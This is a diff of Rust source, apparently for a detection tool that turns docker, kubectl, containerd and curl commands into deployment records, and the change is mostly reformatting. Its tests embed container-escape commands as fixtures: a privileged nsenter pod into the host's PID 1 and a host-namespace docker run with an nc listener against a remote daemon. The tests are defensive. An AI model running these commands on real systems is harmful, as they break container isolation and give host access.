@@ -51,10 +51,11 @@ pub fn analyze(argv: &[String], base: &Deployment) -> Vec<Deployment> {
 fn simple_commands(argv: &[String], depth: usize) -> Vec<Vec<String>> {
     let refs: Vec<&str> = argv.iter().map(String::as_str).collect();
     let (name, _) = shell::unwrap(&refs);
-    if depth < 4 && SHELLS.contains(&name) {
-        if let Some(body) = shell::script_of(&refs).filter(|b| *b != argv.join(" ")) {
-            return script_commands(&body, depth + 1);
-        }
+    if depth < 4
+        && SHELLS.contains(&name)
+        && let Some(body) = shell::script_of(&refs).filter(|b| *b != argv.join(" "))
+    {
+        return script_commands(&body, depth + 1);
     }
     vec![argv.to_vec()]
 }
@@ -71,7 +72,12 @@ fn script_commands(script: &str, depth: usize) -> Vec<Vec<String>> {
     out
 }
 
-fn derive(base: &Deployment, operation: Operation, target: Target, pod: Option<PodSpec>) -> Deployment {
+fn derive(
+    base: &Deployment,
+    operation: Operation,
+    target: Target,
+    pod: Option<PodSpec>,
+) -> Deployment {
     Deployment {
         operation,
         outcome: Outcome::Attempted,
@@ -113,8 +119,7 @@ impl Parsed {
     fn on(&self, names: &[&str]) -> bool {
         self.flags
             .iter()
-            .filter(|(n, _)| names.contains(&n.as_str()))
-            .next_back()
+            .rfind(|(n, _)| names.contains(&n.as_str()))
             .is_some_and(|(_, v)| v.as_deref().is_none_or(|v| !matches!(v, "false" | "0")))
     }
 }
@@ -152,7 +157,10 @@ fn parse_args(args: &[String], g: &Grammar, stop_at_first: usize) -> Parsed {
                 let c = chars[j];
                 if g.short_values.contains(c) {
                     let attached: String = chars[j + 1..].iter().collect();
-                    let attached = attached.strip_prefix('=').map(str::to_string).unwrap_or(attached);
+                    let attached = attached
+                        .strip_prefix('=')
+                        .map(str::to_string)
+                        .unwrap_or(attached);
                     if attached.is_empty() {
                         p.flags.push((c.to_string(), args.get(i + 1).cloned()));
                         i += 1;
@@ -179,9 +187,25 @@ const DOCKER_GLOBAL: Grammar = Grammar {
 
 const DOCKER_RUN: Grammar = Grammar {
     long_bools: &[
-        "detach", "interactive", "tty", "rm", "privileged", "init", "publish-all", "read-only",
-        "no-healthcheck", "oom-kill-disable", "disable-content-trust", "help", "quiet",
-        "sig-proxy", "use-api-socket", "no-hosts", "replace", "tls-verify", "http-proxy",
+        "detach",
+        "interactive",
+        "tty",
+        "rm",
+        "privileged",
+        "init",
+        "publish-all",
+        "read-only",
+        "no-healthcheck",
+        "oom-kill-disable",
+        "disable-content-trust",
+        "help",
+        "quiet",
+        "sig-proxy",
+        "use-api-socket",
+        "no-hosts",
+        "replace",
+        "tls-verify",
+        "http-proxy",
     ],
     short_values: "acehlmpuvw",
 };
@@ -200,9 +224,19 @@ fn docker(tool: &str, args: &[String], base: &Deployment) -> Vec<Deployment> {
                 let takes = if a.starts_with("--") {
                     !DOCKER_GLOBAL.long_bools.contains(&n)
                 } else {
-                    n.chars().last().is_some_and(|c| DOCKER_GLOBAL.short_values.contains(c))
+                    n.chars()
+                        .last()
+                        .is_some_and(|c| DOCKER_GLOBAL.short_values.contains(c))
                 };
-                (n, if takes { args.get(i + 1).cloned() } else { None }, takes)
+                (
+                    n,
+                    if takes {
+                        args.get(i + 1).cloned()
+                    } else {
+                        None
+                    },
+                    takes,
+                )
             }
         };
         if matches!(name, "H" | "host" | "url") {
@@ -226,9 +260,15 @@ fn docker(tool: &str, args: &[String], base: &Deployment) -> Vec<Deployment> {
     match verb {
         "run" | "create" => {
             let p = parse_args(tail, &DOCKER_RUN, 1);
-            let Some(image) = p.positionals.first() else { return Vec::new() };
+            let Some(image) = p.positionals.first() else {
+                return Vec::new();
+            };
             let body = docker_run_body(&p, image);
-            let mut d = docker_api::create_deployment(&body, p.last(&["name"]).as_deref(), base.origin.clone());
+            let mut d = docker_api::create_deployment(
+                &body,
+                p.last(&["name"]).as_deref(),
+                base.origin.clone(),
+            );
             d.target.api_version = tool.to_string();
             vec![Deployment {
                 operation: Operation::Create,
@@ -245,34 +285,70 @@ fn docker(tool: &str, args: &[String], base: &Deployment) -> Vec<Deployment> {
         }
         "exec" => {
             let p = parse_args(tail, &DOCKER_RUN, 1);
-            let Some(name) = p.positionals.first() else { return Vec::new() };
+            let Some(name) = p.positionals.first() else {
+                return Vec::new();
+            };
             let mut d = derive(&base, Operation::Exec, docker_target(tool, name), None);
             if p.on(&["privileged"]) {
-                d.target.annotations.push(("portcullis.dev/exec-privileged".into(), "true".into()));
+                d.target
+                    .annotations
+                    .push(("portcullis.dev/exec-privileged".into(), "true".into()));
             }
             vec![d]
         }
         "build" => {
-            let p = parse_args(tail, &Grammar { long_bools: &["no-cache", "pull", "quiet", "rm", "force-rm", "squash", "load", "push", "help"], short_values: "tf" }, 0);
+            let p = parse_args(
+                tail,
+                &Grammar {
+                    long_bools: &[
+                        "no-cache", "pull", "quiet", "rm", "force-rm", "squash", "load", "push",
+                        "help",
+                    ],
+                    short_values: "tf",
+                },
+                0,
+            );
             let tag = p.last(&["t", "tag"]).unwrap_or_default();
             let mut t = docker_target(tool, &tag);
             t.kind = "DockerBuild".into();
-            t.labels.push(("context".into(), p.positionals.first().cloned().unwrap_or_default()));
+            t.labels.push((
+                "context".into(),
+                p.positionals.first().cloned().unwrap_or_default(),
+            ));
             vec![derive(&base, Operation::Create, t, None)]
         }
         "service" if tail.first().is_some_and(|s| s == "create") => {
             let p = parse_args(&tail[1..], &DOCKER_RUN, 1);
-            let Some(image) = p.positionals.first() else { return Vec::new() };
+            let Some(image) = p.positionals.first() else {
+                return Vec::new();
+            };
             let body = docker_run_body(&p, image);
-            let mut d = docker_api::create_deployment(&body, p.last(&["name"]).as_deref(), base.origin.clone());
+            let mut d = docker_api::create_deployment(
+                &body,
+                p.last(&["name"]).as_deref(),
+                base.origin.clone(),
+            );
             d.target.kind = "SwarmService".into();
-            if p.last(&["mode"]).is_some_and(|m| m == "global" || m == "global-job") {
+            if p.last(&["mode"])
+                .is_some_and(|m| m == "global" || m == "global-job")
+            {
                 d.target.labels.push(("mode".into(), "global".into()));
             }
-            vec![Deployment { operation: Operation::Create, outcome: Outcome::Attempted, ..with_pod(&base, d) }]
+            vec![Deployment {
+                operation: Operation::Create,
+                outcome: Outcome::Attempted,
+                ..with_pod(&base, d)
+            }]
         }
         "stack" if tail.first().is_some_and(|s| s == "deploy" || s == "up") => {
-            let p = parse_args(&tail[1..], &Grammar { long_bools: &["prune", "help"], short_values: "c" }, 0);
+            let p = parse_args(
+                &tail[1..],
+                &Grammar {
+                    long_bools: &["prune", "help"],
+                    short_values: "c",
+                },
+                0,
+            );
             let mut t = docker_target(tool, p.positionals.first().map_or("", String::as_str));
             t.kind = "SwarmStack".into();
             vec![derive(&base, Operation::Create, t, None)]
@@ -302,15 +378,38 @@ fn docker_target(tool: &str, name: &str) -> Target {
 /// `docker compose up|run|create` and `docker-compose …`: a project is deployed; the file
 /// itself is judged by `scan`.
 fn compose(args: &[String], base: &Deployment, tool: &str) -> Vec<Deployment> {
-    let p = parse_args(args, &Grammar { long_bools: &["detach", "build", "no-build", "force-recreate", "remove-orphans", "wait", "help", "rm", "no-deps", "service-ports", "privileged"], short_values: "fpd" }, 0);
-    let Some(verb) = p.positionals.first() else { return Vec::new() };
+    let p = parse_args(
+        args,
+        &Grammar {
+            long_bools: &[
+                "detach",
+                "build",
+                "no-build",
+                "force-recreate",
+                "remove-orphans",
+                "wait",
+                "help",
+                "rm",
+                "no-deps",
+                "service-ports",
+                "privileged",
+            ],
+            short_values: "fpd",
+        },
+        0,
+    );
+    let Some(verb) = p.positionals.first() else {
+        return Vec::new();
+    };
     if !matches!(verb.as_str(), "up" | "run" | "create" | "start") {
         return Vec::new();
     }
     let t = Target {
         kind: "ComposeProject".into(),
         api_version: tool.into(),
-        name: p.last(&["p", "project-name"]).or_else(|| p.last(&["f", "file"])),
+        name: p
+            .last(&["p", "project-name"])
+            .or_else(|| p.last(&["f", "file"])),
         ..Target::default()
     };
     vec![derive(base, Operation::Create, t, None)]
@@ -325,7 +424,10 @@ fn docker_run_body(p: &Parsed, image: &str) -> Value {
         body.insert("Cmd".into(), json!(p.rest));
     }
     if let Some(e) = p.last(&["entrypoint"]) {
-        body.insert("Entrypoint".into(), json!(shlex::split(&e).unwrap_or_else(|| vec![e.clone()])));
+        body.insert(
+            "Entrypoint".into(),
+            json!(shlex::split(&e).unwrap_or_else(|| vec![e.clone()])),
+        );
     }
     if let Some(u) = p.last(&["u", "user"]) {
         body.insert("User".into(), json!(u));
@@ -392,8 +494,15 @@ fn docker_run_body(p: &Parsed, image: &str) -> Value {
             [c, h, ip, ..] => (*c, *h, *ip),
             [] => continue,
         };
-        let key = if cport.contains('/') { cport.to_string() } else { format!("{cport}/tcp") };
-        ports.insert(key, json!([{"HostIp": ip, "HostPort": if hport.is_empty() { "0" } else { hport }}]));
+        let key = if cport.contains('/') {
+            cport.to_string()
+        } else {
+            format!("{cport}/tcp")
+        };
+        ports.insert(
+            key,
+            json!([{"HostIp": ip, "HostPort": if hport.is_empty() { "0" } else { hport }}]),
+        );
     }
     if !ports.is_empty() {
         hc.insert("PortBindings".into(), Value::Object(ports));
@@ -435,10 +544,32 @@ fn mount_spec(spec: &str) -> Value {
 
 const KUBECTL: Grammar = Grammar {
     long_bools: &[
-        "rm", "stdin", "tty", "quiet", "privileged", "dry-run", "recursive", "help", "all",
-        "overwrite", "force", "wait", "attach", "command", "insecure-skip-tls-verify",
-        "leave-stdin-open", "record", "save-config", "validate", "server-side", "prune",
-        "expose", "keep-annotations", "share-processes", "same-node", "copy-to",
+        "rm",
+        "stdin",
+        "tty",
+        "quiet",
+        "privileged",
+        "dry-run",
+        "recursive",
+        "help",
+        "all",
+        "overwrite",
+        "force",
+        "wait",
+        "attach",
+        "command",
+        "insecure-skip-tls-verify",
+        "leave-stdin-open",
+        "record",
+        "save-config",
+        "validate",
+        "server-side",
+        "prune",
+        "expose",
+        "keep-annotations",
+        "share-processes",
+        "same-node",
+        "copy-to",
     ],
     short_values: "cfklnops",
 };
@@ -447,7 +578,10 @@ const KUBECTL: Grammar = Grammar {
 fn kubectl(args: &[String], base: &Deployment) -> Vec<Deployment> {
     let p = parse_args(args, &KUBECTL, 0);
     let mut base = base.clone();
-    base.endpoint = p.last(&["s", "server"]).or_else(|| p.last(&["context"]).map(|c| format!("context:{c}"))).or(base.endpoint.clone());
+    base.endpoint = p
+        .last(&["s", "server"])
+        .or_else(|| p.last(&["context"]).map(|c| format!("context:{c}")))
+        .or(base.endpoint.clone());
     let ns = p.last(&["n", "namespace"]);
     let pos: Vec<&str> = p.positionals.iter().map(String::as_str).collect();
     let target = |kind: &str, name: Option<&str>| Target {
@@ -457,13 +591,23 @@ fn kubectl(args: &[String], base: &Deployment) -> Vec<Deployment> {
         ..Target::default()
     };
     match pos.as_slice() {
-        ["apply" | "create" | "replace", ..] if pos.len() == 1 || pos[0] != "create" || p.last(&["f", "filename", "k", "kustomize"]).is_some() => {
+        ["apply" | "create" | "replace", ..]
+            if pos.len() == 1
+                || pos[0] != "create"
+                || p.last(&["f", "filename", "k", "kustomize"]).is_some() =>
+        {
             let files = p.all(&["f", "filename", "k", "kustomize"]);
             let mut t = target("Manifest", files.first().map(String::as_str));
-            t.labels.extend(files.iter().map(|f| ("source".to_string(), f.clone())));
+            t.labels
+                .extend(files.iter().map(|f| ("source".to_string(), f.clone())));
             vec![derive(&base, Operation::Create, t, None)]
         }
-        ["create", kind @ ("deployment" | "deploy" | "job" | "cronjob" | "cj"), name, ..] => {
+        [
+            "create",
+            kind @ ("deployment" | "deploy" | "job" | "cronjob" | "cj"),
+            name,
+            ..,
+        ] => {
             let image = p.last(&["image"]).unwrap_or_default();
             let kind = match *kind {
                 "deployment" | "deploy" => "Deployment",
@@ -471,21 +615,41 @@ fn kubectl(args: &[String], base: &Deployment) -> Vec<Deployment> {
                 _ => "CronJob",
             };
             let pod = simple_pod("spec.template.spec", name, &image, &[], &p.rest, false);
-            vec![derive(&base, Operation::Create, target(kind, Some(name)), Some(pod))]
+            vec![derive(
+                &base,
+                Operation::Create,
+                target(kind, Some(name)),
+                Some(pod),
+            )]
         }
         ["run", name, ..] => kubectl_run(&p, name, &base, ns.clone()),
         ["debug", what, ..] => kubectl_debug(&p, what, &base, ns.clone()),
         ["exec", pod, ..] | ["attach", pod, ..] => {
-            let op = if pos[0] == "exec" { Operation::Exec } else { Operation::Attach };
-            vec![derive(&base, op, target("Pod", Some(pod.trim_start_matches("pod/"))), None)]
+            let op = if pos[0] == "exec" {
+                Operation::Exec
+            } else {
+                Operation::Attach
+            };
+            vec![derive(
+                &base,
+                op,
+                target("Pod", Some(pod.trim_start_matches("pod/"))),
+                None,
+            )]
         }
         ["set", "image", res, ..] => {
             let (kind, name) = res.split_once('/').unwrap_or((res, ""));
             let images: Vec<(String, String)> = pos[3..]
                 .iter()
-                .filter_map(|a| a.split_once('=').map(|(c, i)| (c.to_string(), i.to_string())))
+                .filter_map(|a| {
+                    a.split_once('=')
+                        .map(|(c, i)| (c.to_string(), i.to_string()))
+                })
                 .collect();
-            let mut pod = PodSpec { path: "spec.template.spec".into(), ..PodSpec::default() };
+            let mut pod = PodSpec {
+                path: "spec.template.spec".into(),
+                ..PodSpec::default()
+            };
             for (i, (c, img)) in images.iter().enumerate() {
                 pod.containers.push(Container {
                     path: format!("spec.template.spec.containers[{i}]"),
@@ -494,16 +658,33 @@ fn kubectl(args: &[String], base: &Deployment) -> Vec<Deployment> {
                     ..Container::default()
                 });
             }
-            vec![derive(&base, Operation::Update, target(&title(kind), Some(name)), Some(pod))]
+            vec![derive(
+                &base,
+                Operation::Update,
+                target(&title(kind), Some(name)),
+                Some(pod),
+            )]
         }
         ["patch", res, rest @ ..] => {
             let (kind, name) = match res.split_once('/') {
                 Some((k, n)) => (k.to_string(), n.to_string()),
-                None => (res.to_string(), rest.first().map_or(String::new(), |s| s.to_string())),
+                None => (
+                    res.to_string(),
+                    rest.first().map_or(String::new(), |s| s.to_string()),
+                ),
             };
-            let patch = p.last(&["p", "patch"]).and_then(|s| serde_json::from_str::<Value>(&s).ok());
-            let pod = patch.as_ref().and_then(|v| patch_pod(v, p.last(&["type"]).as_deref()));
-            vec![derive(&base, Operation::Patch, target(&title(&kind), Some(&name)), pod)]
+            let patch = p
+                .last(&["p", "patch"])
+                .and_then(|s| serde_json::from_str::<Value>(&s).ok());
+            let pod = patch
+                .as_ref()
+                .and_then(|v| patch_pod(v, p.last(&["type"]).as_deref()));
+            vec![derive(
+                &base,
+                Operation::Patch,
+                target(&title(&kind), Some(&name)),
+                pod,
+            )]
         }
         _ => Vec::new(),
     }
@@ -533,7 +714,14 @@ fn patch_pod(patch: &Value, kind: Option<&str>) -> Option<PodSpec> {
     crate::k8s::any_pod_spec(&object)
 }
 
-fn simple_pod(path: &str, name: &str, image: &str, command: &[String], args: &[String], privileged: bool) -> PodSpec {
+fn simple_pod(
+    path: &str,
+    name: &str,
+    image: &str,
+    command: &[String],
+    args: &[String],
+    privileged: bool,
+) -> PodSpec {
     PodSpec {
         path: path.into(),
         containers: vec![Container {
@@ -560,7 +748,11 @@ fn kubectl_run(p: &Parsed, name: &str, base: &Deployment, ns: Option<String>) ->
     let image = p.last(&["image"]).unwrap_or_default();
     let mut container = json!({"name": name, "image": image});
     if !p.rest.is_empty() {
-        container[if p.on(&["command"]) { "command" } else { "args" }] = json!(p.rest);
+        container[if p.on(&["command"]) {
+            "command"
+        } else {
+            "args"
+        }] = json!(p.rest);
     }
     if p.on(&["privileged"]) {
         container["securityContext"] = json!({"privileged": true});
@@ -568,7 +760,10 @@ fn kubectl_run(p: &Parsed, name: &str, base: &Deployment, ns: Option<String>) ->
     let env: Vec<Value> = p
         .all(&["env"])
         .iter()
-        .filter_map(|e| e.split_once('=').map(|(k, v)| json!({"name": k, "value": v})))
+        .filter_map(|e| {
+            e.split_once('=')
+                .map(|(k, v)| json!({"name": k, "value": v}))
+        })
         .collect();
     if !env.is_empty() {
         container["env"] = json!(env);
@@ -578,7 +773,10 @@ fn kubectl_run(p: &Parsed, name: &str, base: &Deployment, ns: Option<String>) ->
         "metadata": {"name": name, "namespace": ns},
         "spec": {"containers": [container]},
     });
-    if let Some(o) = p.last(&["overrides"]).and_then(|o| serde_json::from_str::<Value>(&o).ok()) {
+    if let Some(o) = p
+        .last(&["overrides"])
+        .and_then(|o| serde_json::from_str::<Value>(&o).ok())
+    {
         merge_patch(&mut pod, &o);
     }
     let mut deployments = Vec::new();
@@ -623,7 +821,10 @@ fn kubectl_debug(p: &Parsed, what: &str, base: &Deployment, ns: Option<String>) 
     let image = p.last(&["image"]).unwrap_or_else(|| "busybox".into());
     let profile = p.last(&["profile"]).unwrap_or_else(|| "legacy".into());
     let privileged = profile == "sysadmin";
-    if let Some(node) = what.strip_prefix("node/").or_else(|| what.strip_prefix("nodes/")) {
+    if let Some(node) = what
+        .strip_prefix("node/")
+        .or_else(|| what.strip_prefix("nodes/"))
+    {
         let mut pod = simple_pod("spec", "debugger", &image, &[], &p.rest, privileged);
         pod.host_pid = true;
         pod.host_network = true;
@@ -659,19 +860,46 @@ fn kubectl_debug(p: &Parsed, what: &str, base: &Deployment, ns: Option<String>) 
         name: Some(pod_name.to_string()),
         ..Target::default()
     };
-    let op = if copy { Operation::Create } else { Operation::EphemeralContainer };
+    let op = if copy {
+        Operation::Create
+    } else {
+        Operation::EphemeralContainer
+    };
     vec![derive(base, op, t, Some(pod))]
 }
 
 fn helm(args: &[String], base: &Deployment) -> Vec<Deployment> {
-    let p = parse_args(args, &Grammar { long_bools: &["install", "atomic", "wait", "create-namespace", "dry-run", "debug", "force", "reuse-values", "reset-values", "generate-name", "help"], short_values: "fn" }, 0);
+    let p = parse_args(
+        args,
+        &Grammar {
+            long_bools: &[
+                "install",
+                "atomic",
+                "wait",
+                "create-namespace",
+                "dry-run",
+                "debug",
+                "force",
+                "reuse-values",
+                "reset-values",
+                "generate-name",
+                "help",
+            ],
+            short_values: "fn",
+        },
+        0,
+    );
     match p.positionals.first().map(String::as_str) {
         Some("install" | "upgrade") => {
             let t = Target {
                 kind: "HelmRelease".into(),
                 namespace: p.last(&["n", "namespace"]),
                 name: p.positionals.get(1).cloned(),
-                labels: p.positionals.get(2).map(|c| vec![("chart".to_string(), c.clone())]).unwrap_or_default(),
+                labels: p
+                    .positionals
+                    .get(2)
+                    .map(|c| vec![("chart".to_string(), c.clone())])
+                    .unwrap_or_default(),
                 ..Target::default()
             };
             vec![derive(base, Operation::Create, t, None)]
@@ -683,7 +911,18 @@ fn helm(args: &[String], base: &Deployment) -> Vec<Deployment> {
 /// containerd's `ctr [global] run|container create [--privileged] [--mount …] [--net-host] IMAGE ID [CMD…]`.
 fn ctr(args: &[String], base: &Deployment) -> Vec<Deployment> {
     let g = Grammar {
-        long_bools: &["privileged", "net-host", "rm", "tty", "detach", "null-io", "read-only", "debug", "help", "snapshotter-label"],
+        long_bools: &[
+            "privileged",
+            "net-host",
+            "rm",
+            "tty",
+            "detach",
+            "null-io",
+            "read-only",
+            "debug",
+            "help",
+            "snapshotter-label",
+        ],
         short_values: "na",
     };
     let p = parse_args(args, &g, 0);
@@ -692,14 +931,23 @@ fn ctr(args: &[String], base: &Deployment) -> Vec<Deployment> {
         ["run", ..] => 1,
         ["c" | "container" | "containers", "create" | "run", ..] => 2,
         ["t" | "task" | "tasks", "exec", ..] => {
-            let t = Target { kind: "ContainerdContainer".into(), name: p.last(&["exec-id"]), ..Target::default() };
+            let t = Target {
+                kind: "ContainerdContainer".into(),
+                name: p.last(&["exec-id"]),
+                ..Target::default()
+            };
             return vec![derive(base, Operation::Exec, t, None)];
         }
         _ => return Vec::new(),
     };
     let image = pos.get(start).copied().unwrap_or_default();
     let id = pos.get(start + 1).copied().unwrap_or("container");
-    let cmd: Vec<String> = pos.iter().skip(start + 2).map(|s| s.to_string()).chain(p.rest.iter().cloned()).collect();
+    let cmd: Vec<String> = pos
+        .iter()
+        .skip(start + 2)
+        .map(|s| s.to_string())
+        .chain(p.rest.iter().cloned())
+        .collect();
     let mut body = json!({"Image": image, "Cmd": cmd, "HostConfig": {}});
     if p.on(&["privileged"]) {
         body["HostConfig"]["Privileged"] = json!(true);
@@ -720,19 +968,33 @@ fn ctr(args: &[String], base: &Deployment) -> Vec<Deployment> {
         })
         .collect();
     body["HostConfig"]["Mounts"] = json!(mounts);
-    if p.all(&["with-ns"]).iter().any(|n| n.starts_with("pid:/proc/1/")) {
+    if p.all(&["with-ns"])
+        .iter()
+        .any(|n| n.starts_with("pid:/proc/1/"))
+    {
         body["HostConfig"]["PidMode"] = json!("host");
     }
     let mut d = docker_api::create_deployment(&body, Some(id), base.origin.clone());
     d.target.kind = "ContainerdContainer".into();
     d.target.namespace = p.last(&["n", "namespace"]);
-    vec![Deployment { operation: Operation::Create, outcome: Outcome::Attempted, ..with_pod(base, d) }]
+    vec![Deployment {
+        operation: Operation::Create,
+        outcome: Outcome::Attempted,
+        ..with_pod(base, d)
+    }]
 }
 
 /// crictl takes its pod and container specs from files we do not have: the deployment is
 /// recorded with its config paths.
 fn crictl(args: &[String], base: &Deployment) -> Vec<Deployment> {
-    let p = parse_args(args, &Grammar { long_bools: &["debug", "help", "interactive", "tty", "sync"], short_values: "rt" }, 0);
+    let p = parse_args(
+        args,
+        &Grammar {
+            long_bools: &["debug", "help", "interactive", "tty", "sync"],
+            short_values: "rt",
+        },
+        0,
+    );
     let pos: Vec<&str> = p.positionals.iter().map(String::as_str).collect();
     let (op, kind) = match pos.first() {
         Some(&"runp") => (Operation::Create, "CriPodSandbox"),
@@ -744,7 +1006,11 @@ fn crictl(args: &[String], base: &Deployment) -> Vec<Deployment> {
     let t = Target {
         kind: kind.into(),
         name: pos.get(1).map(|s| s.to_string()),
-        labels: pos.iter().skip(1).map(|f| ("config".to_string(), f.to_string())).collect(),
+        labels: pos
+            .iter()
+            .skip(1)
+            .map(|f| ("config".to_string(), f.to_string()))
+            .collect(),
         ..Target::default()
     };
     vec![derive(base, op, t, None)]
@@ -753,10 +1019,26 @@ fn crictl(args: &[String], base: &Deployment) -> Vec<Deployment> {
 /// curl/wget speaking the Docker Engine API: over the socket, or to a TCP daemon (2375).
 fn http_client(tool: &str, args: &[String], base: &Deployment) -> Vec<Deployment> {
     let (urls, socket, data) = if tool == "curl" {
-        let p = parse_args(args, &Grammar {
-            long_bools: &["silent", "insecure", "location", "fail", "verbose", "include", "compressed", "show-error", "http1.1", "no-buffer", "get"],
-            short_values: "XdHoeuAbcmrwTFx",
-        }, 0);
+        let p = parse_args(
+            args,
+            &Grammar {
+                long_bools: &[
+                    "silent",
+                    "insecure",
+                    "location",
+                    "fail",
+                    "verbose",
+                    "include",
+                    "compressed",
+                    "show-error",
+                    "http1.1",
+                    "no-buffer",
+                    "get",
+                ],
+                short_values: "XdHoeuAbcmrwTFx",
+            },
+            0,
+        );
         let mut urls = p.positionals.clone();
         urls.extend(p.all(&["url"]));
         let data = p
@@ -764,14 +1046,30 @@ fn http_client(tool: &str, args: &[String], base: &Deployment) -> Vec<Deployment
             .pop();
         (urls, p.last(&["unix-socket", "abstract-unix-socket"]), data)
     } else {
-        let p = parse_args(args, &Grammar { long_bools: &["quiet", "no-check-certificate", "spider", "server-response"], short_values: "OoqPT" }, 0);
-        (p.positionals.clone(), None, p.last(&["post-data", "body-data"]))
+        let p = parse_args(
+            args,
+            &Grammar {
+                long_bools: &["quiet", "no-check-certificate", "spider", "server-response"],
+                short_values: "OoqPT",
+            },
+            0,
+        );
+        (
+            p.positionals.clone(),
+            None,
+            p.last(&["post-data", "body-data"]),
+        )
     };
     let mut out = Vec::new();
     for url in urls {
         let (endpoint, path) = split_url(&url);
-        let docker_port = endpoint.as_deref().is_some_and(|e| e.ends_with(":2375") || e.ends_with(":2376"));
-        let to_docker = socket.as_deref().is_some_and(|s| s.contains("docker.sock") || s.contains("podman.sock")) || docker_port;
+        let docker_port = endpoint
+            .as_deref()
+            .is_some_and(|e| e.ends_with(":2375") || e.ends_with(":2376"));
+        let to_docker = socket
+            .as_deref()
+            .is_some_and(|s| s.contains("docker.sock") || s.contains("podman.sock"))
+            || docker_port;
         if !to_docker && !path.contains("/containers/") {
             continue;
         }
@@ -785,18 +1083,40 @@ fn http_client(tool: &str, args: &[String], base: &Deployment) -> Vec<Deployment
         let p = path.split('?').next().unwrap_or("");
         let p = strip_version(p);
         if p == "/containers/create" {
-            let name = path.split_once("name=").map(|(_, n)| n.split('&').next().unwrap_or("").to_string());
+            let name = path
+                .split_once("name=")
+                .map(|(_, n)| n.split('&').next().unwrap_or("").to_string());
             let body = data
                 .as_deref()
                 .and_then(|d| serde_json::from_str::<Value>(d).ok())
                 .unwrap_or_else(|| json!({}));
             let mut d = docker_api::create_deployment(&body, name.as_deref(), base.origin.clone());
             d.target.api_version = "docker-api".into();
-            out.push(Deployment { operation: Operation::Create, outcome: Outcome::Attempted, ..with_pod(&base, d) });
-        } else if let Some(id) = p.strip_prefix("/containers/").and_then(|r| r.strip_suffix("/start")) {
-            out.push(derive(&base, Operation::Start, docker_target("docker-api", id), None));
-        } else if let Some(id) = p.strip_prefix("/containers/").and_then(|r| r.strip_suffix("/exec")) {
-            out.push(derive(&base, Operation::Exec, docker_target("docker-api", id), None));
+            out.push(Deployment {
+                operation: Operation::Create,
+                outcome: Outcome::Attempted,
+                ..with_pod(&base, d)
+            });
+        } else if let Some(id) = p
+            .strip_prefix("/containers/")
+            .and_then(|r| r.strip_suffix("/start"))
+        {
+            out.push(derive(
+                &base,
+                Operation::Start,
+                docker_target("docker-api", id),
+                None,
+            ));
+        } else if let Some(id) = p
+            .strip_prefix("/containers/")
+            .and_then(|r| r.strip_suffix("/exec"))
+        {
+            out.push(derive(
+                &base,
+                Operation::Exec,
+                docker_target("docker-api", id),
+                None,
+            ));
         }
     }
     out
@@ -807,7 +1127,8 @@ fn split_url(url: &str) -> (Option<String>, String) {
     match rest.find('/') {
         Some(i) => {
             let host = &rest[..i];
-            let host = (!host.is_empty() && host != "localhost" && host != "docker").then(|| host.to_string());
+            let host = (!host.is_empty() && host != "localhost" && host != "docker")
+                .then(|| host.to_string());
             (host, rest[i..].to_string())
         }
         None => (Some(rest.to_string()), "/".into()),
@@ -826,11 +1147,19 @@ pub fn strip_version(path: &str) -> &str {
 }
 
 /// A process record's deployment skeleton: origin, time, actor, process.
-pub fn process_base(origin: Origin, time: Option<String>, user: Option<String>, process: ProcessInfo) -> Deployment {
+pub fn process_base(
+    origin: Origin,
+    time: Option<String>,
+    user: Option<String>,
+    process: ProcessInfo,
+) -> Deployment {
     Deployment {
         origin,
         time,
-        actor: portcullis_model::Actor { user, ..Default::default() },
+        actor: portcullis_model::Actor {
+            user,
+            ..Default::default()
+        },
         process: Some(process),
         ..Deployment::default()
     }
@@ -842,7 +1171,16 @@ mod tests {
 
     fn run(line: &str) -> Vec<Deployment> {
         let argv = shlex::split(line).expect("test line splits");
-        let base = process_base(Origin::default(), None, None, ProcessInfo { command_line: line.into(), argv: argv.clone(), ..Default::default() });
+        let base = process_base(
+            Origin::default(),
+            None,
+            None,
+            ProcessInfo {
+                command_line: line.into(),
+                argv: argv.clone(),
+                ..Default::default()
+            },
+        );
         analyze(&argv, &base)
     }
 
@@ -859,9 +1197,15 @@ mod tests {
             let c = &d[0].pod.as_ref().expect("pod").containers[0];
             assert_eq!(c.security_context.privileged, Some(true), "{line}");
             assert_eq!(c.image.repository, "library/alpine", "{line}");
-            assert_eq!(c.mounts[0].host_path.as_ref().map(|h| h.path.as_str()), Some("/"), "{line}");
+            assert_eq!(
+                c.mounts[0].host_path.as_ref().map(|h| h.path.as_str()),
+                Some("/"),
+                "{line}"
+            );
         }
-        let d = run("docker -H tcp://10.0.0.5:2375 run --pid host --net=host --cap-add ALL --device /dev/sda --security-opt seccomp=unconfined -p 4444:4444 alpine nc -l");
+        let d = run(
+            "docker -H tcp://10.0.0.5:2375 run --pid host --net=host --cap-add ALL --device /dev/sda --security-opt seccomp=unconfined -p 4444:4444 alpine nc -l",
+        );
         let p = d[0].pod.as_ref().expect("pod");
         assert!(p.host_pid && p.host_network);
         assert_eq!(d[0].endpoint.as_deref(), Some("tcp://10.0.0.5:2375"));
@@ -889,14 +1233,19 @@ mod tests {
 
     #[test]
     fn kubectl_run_overrides_are_judged() {
-        let d = run(r#"kubectl --context kind-atomic-cluster run atomic-nsenter-escape-pod --restart=Never -ti --rm --image alpine --overrides '{"spec":{"hostPID": true, "containers":[{"name":"1","image":"alpine","command":["nsenter","--mount=/proc/1/ns/mnt","--","/bin/bash"],"stdin": true,"tty":true,"securityContext":{"privileged":true}}]}}'"#);
+        let d = run(
+            r#"kubectl --context kind-atomic-cluster run atomic-nsenter-escape-pod --restart=Never -ti --rm --image alpine --overrides '{"spec":{"hostPID": true, "containers":[{"name":"1","image":"alpine","command":["nsenter","--mount=/proc/1/ns/mnt","--","/bin/bash"],"stdin": true,"tty":true,"securityContext":{"privileged":true}}]}}'"#,
+        );
         assert_eq!(d.len(), 1);
         let p = d[0].pod.as_ref().expect("pod");
         assert!(p.host_pid);
         assert_eq!(p.containers.len(), 1);
         assert_eq!(p.containers[0].security_context.privileged, Some(true));
         assert_eq!(p.containers[0].command[0], "nsenter");
-        assert_eq!(d[0].endpoint.as_deref(), Some("context:kind-atomic-cluster"));
+        assert_eq!(
+            d[0].endpoint.as_deref(),
+            Some("context:kind-atomic-cluster")
+        );
     }
 
     #[test]
@@ -906,25 +1255,48 @@ mod tests {
         assert!(p.host_pid && p.host_network);
         assert_eq!(p.node_name.as_deref(), Some("worker-1"));
         assert_eq!(p.containers[0].security_context.privileged, Some(true));
